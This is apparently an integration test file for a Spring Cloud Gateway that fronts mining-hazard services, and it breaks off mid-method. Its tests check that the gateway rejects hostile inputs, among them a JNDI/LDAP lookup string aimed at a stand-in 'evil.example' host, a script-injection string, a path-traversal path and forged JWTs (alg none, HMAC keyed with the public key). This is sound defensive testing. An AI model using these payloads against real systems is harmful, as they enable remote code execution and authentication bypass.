package io.shouwei.gateway;

import static io.shouwei.gateway.support.Problems.assertProblem;
import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.cloud.gateway.support.RouteMetadataUtils.CONNECT_TIMEOUT_ATTR;
import static org.springframework.cloud.gateway.support.RouteMetadataUtils.RESPONSE_TIMEOUT_ATTR;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.crypto.RSASSAVerifier;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import io.shouwei.embedded.DevTokens;
import io.shouwei.gateway.ratelimit.LocalTokenBuckets;
import io.shouwei.gateway.ratelimit.RateLimitProperties;
import io.shouwei.gateway.ratelimit.TokenBuckets;
import io.shouwei.gateway.support.StubService;
import io.shouwei.gateway.support.TestTokens;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.text.ParseException;
import java.time.Duration;
import java.time.Instant;
import java.util.Arrays;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.actuate.observability.AutoConfigureObservability;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.cloud.gateway.route.Route;
import org.springframework.cloud.gateway.route.RouteLocator;
import org.springframework.cloud.gateway.route.builder.RouteLocatorBuilder;
import org.springframework.context.annotation.Bean;
import org.springframework.core.io.buffer.DataBuffer;
import org.springframework.core.io.buffer.DefaultDataBufferFactory;
import org.springframework.core.ParameterizedTypeReference;
import org.springframework.http.CacheControl;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;
import org.springframework.test.web.reactive.server.EntityExchangeResult;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.springframework.util.FileSystemUtils;
import org.springframework.web.reactive.function.BodyInserters;
import reactor.core.publisher.Flux;

/**
 * The gateway as it runs locally: dev tokens, every route to a real HTTP stub of its service,
 * token checks, correlation ids and the gateway's own errors.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@AutoConfigureObservability(tracing = false)
@ActiveProfiles("local")
@ExtendWith(OutputCaptureExtension.class)
class GatewayLocalIT {

  private static final Path DATA_DIR = tempDir();
  private static final StubService HAZARD = StubService.start("hazard");
  private static final StubService WORKFLOW = StubService.start("workflow");
  private static final StubService REPORTING = StubService.start("reporting");
  private static final StubService SLOW = StubService.startSlow("slow", Duration.ofSeconds(3));

  private static final String CORRELATION = "X-Correlation-Id";
  private static final String DASHBOARD_ORIGIN = "https://dashboard.shouwei.example";
  private static final String UUID_PATTERN = "[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}";

  @DynamicPropertySource
  static void properties(DynamicPropertyRegistry registry) {
    registry.add("SHOUWEI_DATA_DIR", DATA_DIR::toString);
    registry.add("SHOUWEI_HAZARD_URL", HAZARD::url);
    registry.add("SHOUWEI_WORKFLOW_URL", WORKFLOW::url);
    registry.add("SHOUWEI_REPORTING_URL", REPORTING::url);
    registry.add("shouwei.browser.allowed-origins", () -> DASHBOARD_ORIGIN);
    // generous: the rate limits have their own tests (RateLimitRedisIT, RateLimitFilterTest)
    registry.add("shouwei.rate-limit.public-ip.capacity", () -> "1000");
  }

  /** A route that exists only here, to a service slower than the route's response timeout. */
  @TestConfiguration(proxyBeanMethods = false)
  static class SlowRoute {
    @Bean
    RouteLocator slowRoute(RouteLocatorBuilder routes) {
      return routes.routes()
          .route("test-slow", r -> r.path("/api/test-slow/**").metadata(RESPONSE_TIMEOUT_ATTR, 300).uri(SLOW.url()))
          .build();
    }
  }

  @Autowired WebTestClient http;
  @Autowired RouteLocator routeLocator;
  @Autowired TokenBuckets buckets;
  @Autowired RateLimitProperties rateLimits;

  @AfterAll
  static void stopStubs() throws IOException {
    Stream.of(HAZARD, WORKFLOW, REPORTING, SLOW).forEach(StubService::close);
    FileSystemUtils.deleteRecursively(DATA_DIR);
  }

  // --- routing -------------------------------------------------------------------------------

  @ParameterizedTest(name = "{0} → {1}")
  @CsvSource({
    "/api/mines/m-1,                                 hazard",
    "/api/hazards/h-1/sign-off,                      hazard",
    "/api/orders/o-1,                                hazard",
    "/api/campaigns/c-1/phases,                      hazard",
    "/api/tips/T-7Q2X/triage,                        hazard",
    "/api/tasks/t-1/complete,                        workflow",
    "/api/processes/p-1,                             workflow",
    "/api/notifications/n-1,                         workflow",
    "/camunda/app/cockpit/default/,                  workflow",
    "/api/reports/campaigns/c-1/work-report.xlsx,    reporting",
    "/dashboard/index.html,                          reporting"
  })
  void everyRoute_reachesItsService_withPathAndQueryUnchanged(String path, String service) {
    String pathAndQuery = path + "?probe=" + UUID.randomUUID();

    http.get().uri(pathAndQuery).headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY")))
        .exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.service").isEqualTo(service);

    assertThat(stub(service).requestTo(pathAndQuery)).as("received by " + service).isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"hazard-api", "workflow-api", "camunda-webapp", "reporting-api", "dashboard",
      "test-clock-hazard", "test-clock-workflow", "test-clock-reporting"})
  void everyRoute_hasItsOwnTimeouts(String routeId) {
    Route route =
        routeLocator.getRoutes().filter(r -> r.getId().equals(routeId)).blockFirst(Duration.ofSeconds(5));

    assertThat(route).as(routeId).isNotNull();
    assertThat(Long.parseLong(route.getMetadata().get(RESPONSE_TIMEOUT_ATTR).toString())).isPositive();
    assertThat(Long.parseLong(route.getMetadata().get(CONNECT_TIMEOUT_ATTR).toString())).isPositive();
  }

  @Test
  void devToken_isForwardedUnchanged_withTheCorrelationIdTheCallerGetsBack() {
    String token = token("DISTRICT_AGENCY");
    String path = "/api/hazards/" + UUID.randomUUID();

    EntityExchangeResult<byte[]> result =
        http.get().uri(path).headers(h -> h.setBearerAuth(token))
            .exchange()
            .expectStatus().isOk()
            .expectBody().jsonPath("$.service").isEqualTo("hazard")
            .returnResult();

    StubService.Received received = HAZARD.requestTo(path).orElseThrow();
    String correlationId = received.headers().getFirst(CORRELATION);
    assertThat(received.headers().getFirst(HttpHeaders.AUTHORIZATION)).isEqualTo("Bearer " + token);
    assertThat(correlationId).matches(UUID_PATTERN);
    // the stub echoes the id: the caller must still see it once, not twice
    assertThat(result.getResponseHeaders().get(CORRELATION)).containsExactly(correlationId);
  }

  @Test
  void wellFormedCorrelationId_isKept() {
    String supplied = "web-console:req_42.7-" + UUID.randomUUID().toString().substring(0, 8);
    String path = "/api/orders/" + UUID.randomUUID();

    http.get().uri(path).headers(h -> h.setBearerAuth(token("TOWN_AGENCY"))).header(CORRELATION, supplied)
        .exchange()
        .expectStatus().isOk()
        .expectHeader().valueEquals(CORRELATION, supplied);

    assertThat(HAZARD.requestTo(path).orElseThrow().headers().get(CORRELATION)).containsExactly(supplied);
  }

  @ParameterizedTest
  @ValueSource(strings = {
    "${jndi:ldap://evil.example/a}",
    "id with spaces",
    "<script>alert(1)</script>",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
    ""
  })
  void malformedCorrelationId_isReplacedByAUuid(String supplied) {
    String path = "/api/mines/" + UUID.randomUUID();

    EntityExchangeResult<byte[]> result =
        http.get().uri(path).headers(h -> h.setBearerAuth(token("AUDITOR"))).header(CORRELATION, supplied)
            .exchange()
            .expectStatus().isOk()
            .expectBody().returnResult();

    String answered = result.getResponseHeaders().getFirst(CORRELATION);
    assertThat(answered).matches(UUID_PATTERN);
    assertThat(HAZARD.requestTo(path).orElseThrow().headers().get(CORRELATION)).containsExactly(answered);
  }

  @Test
  void accessLog_namesTheCorrelationId_neverTheToken(CapturedOutput output) {
    String token = token("ADMIN");
    String correlationId = "log-check-" + UUID.randomUUID().toString().substring(0, 8);
    String path = "/api/campaigns/" + UUID.randomUUID();

    http.get().uri(path + "?secret=query-value").headers(h -> h.setBearerAuth(token))
        .header(CORRELATION, correlationId)
        .exchange()
        .expectStatus().isOk();

    assertThat(output.getOut().lines().filter(line -> line.contains("GET " + path + " 200")))
        .singleElement().asString().contains(correlationId).contains("hazard-api");
    assertThat(output.getAll()).doesNotContain(token).doesNotContain(token.substring(token.lastIndexOf('.') + 1))
        .doesNotContain("query-value");
  }

  @Test
  void gatewayErrors_carryACorrelationIdToo() {
    http.get().uri("/api/hazards/h-1")
        .header(CORRELATION, "trace-401")
        .exchange()
        .expectStatus().isUnauthorized()
        .expectHeader().valueEquals(CORRELATION, "trace-401");
  }

  // --- authentication ------------------------------------------------------------------------

  @Test
  void noToken_is401Problem_andNeverReachesTheService() {
    String path = "/api/hazards/" + UUID.randomUUID();

    assertProblem(http.get().uri(path).exchange(), 401, "unauthenticated", path);
    http.get().uri(path).exchange().expectHeader().valueEquals(HttpHeaders.WWW_AUTHENTICATE, "Bearer");

    assertThat(HAZARD.requestTo(path)).isEmpty();
  }

  static Stream<Arguments> rejectedTokens() {
    Instant now = Instant.now();
    return Stream.of(
        Arguments.of("garbage", (TokenFactory) key -> "not-a-jwt"),
        Arguments.of("expired", (TokenFactory) key -> TestTokens.sign(key,
            claims(now.minus(Duration.ofHours(2)), Duration.ofHours(1)).build())),
        Arguments.of("wrong audience", (TokenFactory) key -> TestTokens.sign(key,
            claims(now, Duration.ofHours(1)).audience("someone-else").build())),
        Arguments.of("wrong issuer", (TokenFactory) key -> TestTokens.sign(key,
            claims(now, Duration.ofHours(1)).issuer("https://evil.example").build())),
        Arguments.of("not yet valid", (TokenFactory) key -> TestTokens.sign(key,
            claims(now, Duration.ofHours(1)).notBeforeTime(Date.from(now.plus(Duration.ofMinutes(10)))).build())),
        Arguments.of("foreign key", (TokenFactory) key ->
            DevTokens.generate().token("u-1", List.of("ADMIN"), "district", List.of(), null)),
        Arguments.of("wrong signature under the right key id", (TokenFactory) key ->
            TestTokens.signWithAnotherKeyUnderItsId(key, claims(now, Duration.ofHours(1)).build())),
        Arguments.of("alg none", (TokenFactory) key -> TestTokens.unsigned(claims(now, Duration.ofHours(1)).build())),
        Arguments.of("HS256 keyed with the public key", (TokenFactory) key ->
            TestTokens.hmacWithThePublicKey(key, claims(now, Duration.ofHours(1)).build())),
        Arguments.of("tampered payload", (TokenFactory) key -> TestTokens.withPayloadReplaced(
            TestTokens.sign(key, DevTokens.claims("u-1", List.of("ENTERPRISE"), "ent-1", List.of(), "ent-1", now,
                Duration.ofHours(1)).build()),
            claims(now, Duration.ofHours(1)).build())));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("rejectedTokens")
  void rejectedToken_is401Problem(String why, TokenFactory tokens) {
    String path = "/api/hazards/" + UUID.randomUUID();
    String token = tokens.create(signingKey());

    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange(), 401, "unauthenticated", path);
    http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange()
        .expectHeader().valueEquals(HttpHeaders.WWW_AUTHENTICATE, "Bearer error=\"invalid_token\"");

    assertThat(HAZARD.requestTo(path)).isEmpty();
  }

  @Test
  void aCorrectlySignedTokenWithTheSameClaims_isAccepted() {
    // the counterpart of the rejected cases above: only the one broken claim made them fail
    String path = "/api/hazards/" + UUID.randomUUID();
    String token = TestTokens.sign(signingKey(), claims(Instant.now(), Duration.ofHours(1)).build());

    http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange().expectStatus().isOk();
  }

  @Test
  void filingATip_needsNoToken_andReachesTheHazardService() {
    String tip = "{\"category\":\"ILLEGAL_MINING\",\"description\":\"night blasting at " + UUID.randomUUID() + "\"}";

    http.post().uri("/api/tips").contentType(MediaType.APPLICATION_JSON).bodyValue(tip)
        .exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.service").isEqualTo("hazard");

    StubService.Received received = HAZARD.requestTo("/api/tips").orElseThrow();
    assertThat(received.method()).isEqualTo("POST");
    assertThat(received.body()).isEqualTo(tip);
    assertThat(received.headers().containsKey(HttpHeaders.AUTHORIZATION)).isFalse();
  }

  @Test
  void followingATipByItsCode_needsNoToken_butListingTipsDoes() {
    String code = "T-" + UUID.randomUUID().toString().substring(0, 6);

    http.get().uri("/api/tips/" + code).exchange().expectStatus().isOk();
    assertThat(HAZARD.requestTo("/api/tips/" + code)).isPresent();

    assertProblem(http.get().uri("/api/tips").exchange(), 401, "unauthenticated", "/api/tips");
    assertProblem(http.get().uri("/api/tips/" + code + "/triage").exchange(), 401, "unauthenticated",
        "/api/tips/" + code + "/triage");
  }

  @Test
  void publicTipPaths_openOnlyTheirMethod() {
    assertProblem(http.post().uri("/api/tips/T-1/triage").contentType(MediaType.APPLICATION_JSON).bodyValue("{}")
        .exchange(), 401, "unauthenticated", "/api/tips/T-1/triage");
    assertProblem(http.put().uri("/api/tips").contentType(MediaType.APPLICATION_JSON).bodyValue("{}").exchange(),
        401, "unauthenticated", "/api/tips");
    assertProblem(http.delete().uri("/api/tips/T-1").exchange(), 401, "unauthenticated", "/api/tips/T-1");
    assertThat(HAZARD.requestTo("/api/tips/T-1/triage")).isEmpty();
  }

  @Test
  void publicTipPaths_withARejectedToken_are401_andNeverReachTheService() {
    String code = "T-" + UUID.randomUUID().toString().substring(0, 6);
    String token = TestTokens.sign(signingKey(),
        claims(Instant.now().minus(Duration.ofHours(2)), Duration.ofHours(1)).build());

    assertProblem(http.get().uri("/api/tips/" + code).headers(h -> h.setBearerAuth(token)).exchange(),
        401, "unauthenticated", "/api/tips/" + code);
    assertProblem(http.post().uri("/api/tips").headers(h -> h.setBearerAuth("not-a-jwt"))
        .contentType(MediaType.APPLICATION_JSON).bodyValue("{}").exchange(), 401, "unauthenticated", "/api/tips");
    assertThat(HAZARD.requestTo("/api/tips/" + code)).isEmpty();
  }

  @Test
  void aTipReadByIdWithAValidToken_reachesTheServiceWithTheToken() {
    String path = "/api/tips/" + UUID.randomUUID();
    String token = TestTokens.sign(signingKey(), claims(Instant.now(), Duration.ofHours(1)).build());

    http.get().uri(path).headers(h -> h.setBearerAuth(token)).exchange().expectStatus().isOk();

    assertThat(HAZARD.requestTo(path).orElseThrow().headers().getFirst(HttpHeaders.AUTHORIZATION))
        .isEqualTo("Bearer " + token);
  }

  @Test
  void rateLimitBuckets_areKeptInThisProcess_inTheLocalProfileOnly_withRoomForPolling() {
    assertThat(buckets).isInstanceOf(LocalTokenBuckets.class);
    assertThat(rateLimits.principal().capacity()).isEqualTo(1200);
    assertThat(rateLimits.client().capacity()).isEqualTo(6000);
  }

  @ParameterizedTest
  @ValueSource(strings = {"hazard", "workflow", "reporting"})
  void clockControl_reachesTheServicesOwnPath_forAnAdminOnly(String service) {
    String body = "{\"advance\": \"PT" + (1 + new Random().nextInt(100_000)) + "S\"}";
    String path = "/api/test/clock/" + service;

    assertProblem(http.post().uri(path).headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY")))
        .contentType(MediaType.APPLICATION_JSON).bodyValue(body).exchange(), 403, "forbidden", path);
    assertThat(stub(service).requestTo("/api/test/clock").filter(r -> r.body().equals(body))).isEmpty();

    http.post().uri(path).headers(h -> h.setBearerAuth(token("ADMIN")))
        .contentType(MediaType.APPLICATION_JSON).bodyValue(body)
        .exchange()
        .expectStatus().isOk()
        .expectBody().jsonPath("$.service").isEqualTo(service);
    assertThat(stub(service).received().stream()
        .filter(r -> r.pathAndQuery().equals("/api/test/clock") && r.body().equals(body))).hasSize(1);
  }

  @Test
  void dashboardAndCamunda_needNoToken() {
    http.get().uri("/dashboard").exchange().expectStatus().isOk();
    http.get().uri("/camunda/app/welcome/default/").exchange().expectStatus().isOk();
  }

  // --- the gateway's own errors --------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(strings = {"/api/no-such-thing/1", "/nowhere", "/auth/unknown"})
  void pathWithoutRoute_is404Problem(String path) {
    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(), 404, "not-found", path);
  }

  @ParameterizedTest
  @ValueSource(strings = {"/camunda/../api/hazards/h-1", "/api/tips/x;jsessionid=1"})
  void pathThatCouldSlipPastTheRules_is400Problem(String path) {
    assertProblem(http.get().uri(path).exchange(), 400, "invalid-request", path);

    assertThat(WORKFLOW.requestTo(path)).isEmpty();
    assertThat(HAZARD.requestTo(path)).isEmpty();
  }

  @Test
  void pathWithoutRoute_withoutToken_is401() {
    assertProblem(http.get().uri("/nowhere").exchange(), 401, "unauthenticated", "/nowhere");
  }

  @Test
  void slowService_is504Problem() {
    String path = "/api/test-slow/" + UUID.randomUUID();

    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(),
        504, "gateway-timeout", path);
  }

  @Test
  void actuator_probesAreOpen_theRestIsForAdminsOnly() {
    http.get().uri("/actuator/health/liveness").exchange()
        .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("UP");
    http.get().uri("/actuator/health/readiness").exchange()
        .expectStatus().isOk().expectBody().jsonPath("$.status").isEqualTo("UP");
    http.get().uri("/actuator/info").headers(h -> h.setBearerAuth(token("ADMIN"))).exchange().expectStatus().isOk();
    http.get().uri("/actuator/prometheus").headers(h -> h.setBearerAuth(token("ADMIN"))).exchange()
        .expectStatus().isOk()
        .expectBody(String.class).value(body -> assertThat(body).contains("jvm_memory_used_bytes"));

    for (String path : List.of("/actuator/info", "/actuator/prometheus", "/actuator/env")) {
      assertProblem(http.get().uri(path).exchange(), 401, "unauthenticated", path);
      assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY"))).exchange(),
          403, "forbidden", path);
    }
    // not exposed at all
    assertProblem(http.get().uri("/actuator/env").headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(),
        404, "not-found", "/actuator/env");
  }

  // --- function-level rules ------------------------------------------------------------------

  @ParameterizedTest(name = "{0} {1}")
  @CsvSource({
    "POST,   /api/hazards",
    "PUT,    /api/hazards/h-1/plan",
    "PATCH,  /api/mines/m-1",
    "DELETE, /api/orders/o-1",
    "POST,   /api/tips",
    "POST,   /api/tasks/t-1/complete",
    "POST,   /api/reports/campaigns/c-1/work-report"
  })
  void auditor_mayNotWrite_anywhere_evenWhereThePublicMay(String method, String path) {
    String pathAndQuery = path + "?probe=" + UUID.randomUUID();
    assertProblem(
        http.method(HttpMethod.valueOf(method)).uri(pathAndQuery)
            .headers(h -> h.setBearerAuth(token("AUDITOR")))
            .contentType(MediaType.APPLICATION_JSON).bodyValue("{}").exchange(),
        403, "forbidden", path);
    assertThat(HAZARD.requestTo(pathAndQuery)).isEmpty();
    assertThat(WORKFLOW.requestTo(pathAndQuery)).isEmpty();
    assertThat(REPORTING.requestTo(pathAndQuery)).isEmpty();
  }

  @Test
  void auditor_reads_andAnotherRoleWrites() {
    String read = "/api/hazards/" + UUID.randomUUID() + "/history";
    http.get().uri(read).headers(h -> h.setBearerAuth(token("AUDITOR"))).exchange().expectStatus().isOk();

    String write = "/api/hazards/" + UUID.randomUUID() + "/verification";
    http.post().uri(write).headers(h -> h.setBearerAuth(token("TOWN_AGENCY")))
        .contentType(MediaType.APPLICATION_JSON).bodyValue("{}").exchange().expectStatus().isOk();
    assertThat(HAZARD.requestTo(write)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"DISTRICT_AGENCY", "TOWN_AGENCY", "ENTERPRISE", "SUPERIOR_COMPANY", "AUDITOR", "SERVICE"})
  void adminEndpoints_refuseEveryOtherRole(String role) {
    String path = "/api/reports/admin/rebuild";
    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token(role))).exchange(), 403, "forbidden", path);
    assertThat(REPORTING.requestTo(path)).isEmpty();
  }

  @Test
  void adminEndpoints_openToAdmin_andNeedAToken() {
    String path = "/api/reports/admin/projections/" + UUID.randomUUID();
    assertProblem(http.get().uri(path).exchange(), 401, "unauthenticated", path);

    http.get().uri(path).headers(h -> h.setBearerAuth(token("ADMIN"))).exchange()
        .expectStatus().isOk().expectBody().jsonPath("$.service").isEqualTo("reporting");
  }

  // --- browsers, sizes, the log -------------------------------------------------------------

  @Test
  void everyResponse_carriesTheSecurityHeaders_proxiedOrNot() {
    for (WebTestClient.ResponseSpec response : List.of(
        http.get().uri("/api/mines/" + UUID.randomUUID()).headers(h -> h.setBearerAuth(token("ADMIN"))).exchange(),
        http.get().uri("/api/mines/m-1").exchange(),
        http.get().uri("/actuator/health").exchange())) {
      response
          .expectHeader().valueEquals("X-Content-Type-Options", "nosniff")
          .expectHeader().valueEquals("X-Frame-Options", "DENY")
          .expectHeader().valueEquals("Referrer-Policy", "no-referrer")
          .expectHeader().valueEquals("Content-Security-Policy",
              "default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'")
          // HSTS only where TLS ends in front of the gateway (k8s profile)
          .expectHeader().doesNotExist("Strict-Transport-Security");
    }
  }

  @Test
  void dashboard_getsAPolicyThatLetsItLoadFromItsOwnOrigin() {
    http.get().uri("/dashboard/index.html").exchange()
        .expectStatus().isOk()
        .expectHeader().value("Content-Security-Policy", csp -> assertThat(csp)
            .contains("default-src 'self'").contains("frame-ancestors 'none'").doesNotContain("script-src"));
  }

  @Test
  void cors_answersTheDashboardsOrigin() {
    http.options().uri("/api/reports/hazards")
        .header(HttpHeaders.ORIGIN, DASHBOARD_ORIGIN)
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_METHOD, "GET")
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_HEADERS, "Authorization")
        .exchange()
        .expectStatus().isOk()
        .expectHeader().valueEquals(HttpHeaders.ACCESS_CONTROL_ALLOW_ORIGIN, DASHBOARD_ORIGIN)
        .expectHeader().value(HttpHeaders.ACCESS_CONTROL_ALLOW_HEADERS, h -> assertThat(h).containsIgnoringCase("authorization"))
        .expectHeader().doesNotExist(HttpHeaders.ACCESS_CONTROL_ALLOW_CREDENTIALS);

    http.get().uri("/api/reports/hazards").header(HttpHeaders.ORIGIN, DASHBOARD_ORIGIN)
        .headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY")))
        .exchange()
        .expectStatus().isOk()
        .expectHeader().valueEquals(HttpHeaders.ACCESS_CONTROL_ALLOW_ORIGIN, DASHBOARD_ORIGIN)
        .expectHeader().value(HttpHeaders.ACCESS_CONTROL_EXPOSE_HEADERS, h -> assertThat(h).contains(CORRELATION));
  }

  @Test
  void cors_refusesAnyOtherOrigin() {
    http.options().uri("/api/reports/hazards")
        .header(HttpHeaders.ORIGIN, "https://evil.example")
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_METHOD, "GET")
        .exchange()
        .expectStatus().isForbidden()
        .expectHeader().doesNotExist(HttpHeaders.ACCESS_CONTROL_ALLOW_ORIGIN);
    assertProblem(http.options().uri("/api/reports/hazards")
        .header(HttpHeaders.ORIGIN, "https://evil.example")
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_METHOD, "GET")
        .exchange(), 403, "forbidden", "/api/reports/hazards");

    String path = "/api/reports/hazards?probe=" + UUID.randomUUID();
    http.get().uri(path).header(HttpHeaders.ORIGIN, "https://evil.example")
        .headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY")))
        .exchange()
        .expectStatus().isForbidden()
        .expectHeader().doesNotExist(HttpHeaders.ACCESS_CONTROL_ALLOW_ORIGIN);
    assertProblem(http.get().uri(path).header(HttpHeaders.ORIGIN, "https://evil.example")
        .headers(h -> h.setBearerAuth(token("DISTRICT_AGENCY"))).exchange(), 403, "forbidden", "/api/reports/hazards");
    assertThat(REPORTING.requestTo(path)).isEmpty();
  }

  @Test
  void cors_refusesAPreflightForAMethodOrHeaderNotAllowed_fromTheDashboardToo() {
    assertProblem(http.options().uri("/api/reports/hazards")
        .header(HttpHeaders.ORIGIN, DASHBOARD_ORIGIN)
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_METHOD, "TRACE")
        .exchange(), 403, "forbidden", "/api/reports/hazards");
    assertProblem(http.options().uri("/api/reports/hazards")
        .header(HttpHeaders.ORIGIN, DASHBOARD_ORIGIN)
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_METHOD, "GET")
        .header(HttpHeaders.ACCESS_CONTROL_REQUEST_HEADERS, "X-Forwarded-For")
        .exchange(), 403, "forbidden", "/api/reports/hazards");
  }

  @Test
  void bodyAboveTheLimit_is413Problem_andNeverReachesTheService() {
    String path = "/api/hazards/" + UUID.randomUUID() + "/completion";
    byte[] body = new byte[1024 * 1024 + 1];
    Arrays.fill(body, (byte) 'a');

    assertProblem(http.post().uri(path).headers(h -> h.setBearerAuth(token("ENTERPRISE")))
        .contentType(MediaType.APPLICATION_OCTET_STREAM).bodyValue(body).exchange(), 413, "payload-too-large", path);
    assertThat(HAZARD.requestTo(path)).isEmpty();
  }

  @Test
  void bodyWithoutALength_isCutOffAtTheLimit_with413Problem() {
    String path = "/api/hazards/" + UUID.randomUUID() + "/progress";
    Flux<DataBuffer> chunks = Flux.range(0, 20).map(i -> DefaultDataBufferFactory.sharedInstance.wrap(new byte[64 * 1024]));

    http.post().uri(path).headers(h -> h.setBearerAuth(token("ENTERPRISE")))
        .contentType(MediaType.APPLICATION_OCTET_STREAM)
        .body(chunks, DataBuffer.class)
        .exchange()
        .expectStatus().isEqualTo(413);
  }

  @Test
  void bodyAtTheLimit_passes() {
    String path = "/api/hazards/" + UUID.randomUUID() + "/progress";

    http.post().uri(path).headers(h -> h.setBearerAuth(token("ENTERPRISE")))
        .contentType(MediaType.APPLICATION_OCTET_STREAM).bodyValue(new byte[1024 * 1024]).exchange()
        .expectStatus().isOk();
  }

  @Test
  void oversizedHeaders_are431Problem_andNeverReachTheService() {
    String path = "/api/mines/" + UUID.randomUUID();
    assertProblem(http.get().uri(path).headers(h -> h.setBearerAuth(token("ADMIN")))
        .header("X-Padding", "x".repeat(20 * 1024)).exchange(), 431, "headers-too-large", path);
    assertThat(HAZARD.requestTo(path)).isEmpty();
  }

  @Test
  void headersJustBelowTheLimit_pass() {
    http.get().uri("/api/mines/" + UUID.randomUUID()).headers(h -> h.setBearerAuth(token("ADMIN")))
        .header("X-Padding", "x".repeat(12 * 1024)).exchange()
        .expectStatus().isOk();
  }

  @Test
  void accessLog_namesNeitherTheToken_norATipsContact_norItsTrackingCode(CapturedOutput output) {
    String token = token("DISTRICT_AGENCY");
    String contact = "+86-139-" + (10_000_000 + new Random().nextInt(89_999_999));
    String code = "T-" + UUID.randomUUID().toString().substring(0, 8);

    http.post().uri("/api/tips").headers(h -> h.setBearerAuth(token)).contentType(MediaType.APPLICATION_JSON)
        .bodyValue("{\"category\":\"ILLEGAL_MINING\",\"description\":\"blasting\",\"contact\":\"" + contact + "\"}")
        .exchange().expectStatus().isOk();
    http.get().uri("/api/tips/" + code).exchange().expectStatus().isOk();

    assertThat(output.getOut()).contains("POST /api/tips 200").contains("GET /api/tips/{code} 200");
    assertThat(output.getAll()).doesNotContain(token).doesNotContain(contact).doesNotContain(code);
  }

  // --- the dev token issuer ------------------------------------------------------------------

  @Test
  void devToken_carriesTheClaimsEveryServiceReads() throws ParseException, JOSEException {
    Map<String, Object> response =
        http.post().uri("/auth/dev-token").contentType(MediaType.APPLICATION_JSON)
            .bodyValue(Map.of(
                "sub", "ent-user-1", "name", "Li Wei", "roles", List.of("ENTERPRISE"),
                "org", "ent-7", "towns", List.of("town-3"), "enterprise", "ent-7"))
            .exchange()
            .expectStatus().isOk()
            .expectHeader().cacheControl(CacheControl.noStore())
            .expectBody(new ParameterizedTypeReference<Map<String, Object>>() {})
            .returnResult().getResponseBody();

    assertThat(response).containsEntry("token_type", "Bearer").containsEntry("expires_in", 3600);
    SignedJWT jwt = SignedJWT.parse((String) response.get("access_token"));
    JWTClaimsSet claims = jwt.getJWTClaimsSet();
    assertThat(jwt.getHeader().getKeyID()).isEqualTo(signingKey().getKeyID());
    assertThat(jwt.verify(new RSASSAVerifier(publishedKey()))).isTrue();
    assertThat(claims.getIssuer()).isEqualTo("urn:shouwei:local");
    assertThat(claims.getAudience()).containsExactly("shouwei");
    assertThat(claims.getSubject()).isEqualTo("ent-user-1");
    assertThat(claims.getStringClaim("name")).isEqualTo("Li Wei");
    assertThat(claims.getStringListClaim("roles")).containsExactly("ENTERPRISE");
    assertThat(claims.getStringClaim("org")).isEqualTo("ent-7");
    assertThat(claims.getStringListClaim("towns")).containsExactly("town-3");
    assertThat(claims.getStringClaim("enterprise")).isEqualTo("ent-7");
    assertThat(claims.getStringListClaim("groupEnterprises")).isEmpty();
    assertThat(claims.getJWTID()).isNotBlank();
    assertThat(Duration.between(claims.getIssueTime().toInstant(), claims.getExpirationTime().toInstant()))
        .isEqualTo(Duration.ofHours(1));
    assertThat(claims.getIssueTime().toInstant()).isBetween(Instant.now().minusSeconds(60), Instant.now().plusSeconds(1));
  }

  @Test
  void devToken_ofASuperiorCompany_listsTheEnterprisesOfItsGroup() throws ParseException {
    Map<String, Object> response =
